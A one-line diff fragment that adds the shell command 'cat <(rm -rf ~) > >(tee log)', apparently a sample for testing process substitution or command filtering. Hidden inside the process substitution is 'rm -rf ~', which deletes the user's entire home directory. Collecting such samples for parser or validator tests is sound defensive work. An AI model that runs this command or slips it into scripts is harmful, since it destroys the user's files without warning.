@@ -1,0 +1,1 @@
+cat <(rm -rf ~) > >(tee log)
